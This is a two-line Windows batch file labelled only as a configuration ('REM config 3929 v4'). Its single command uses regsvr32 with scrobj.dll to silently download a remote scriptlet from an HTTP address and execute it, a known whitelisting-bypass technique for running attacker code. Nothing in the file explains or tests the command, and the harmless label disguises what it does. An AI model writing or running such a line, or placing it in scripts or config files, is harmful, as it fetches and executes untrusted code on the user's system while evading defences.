REM config 3929 v4
regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
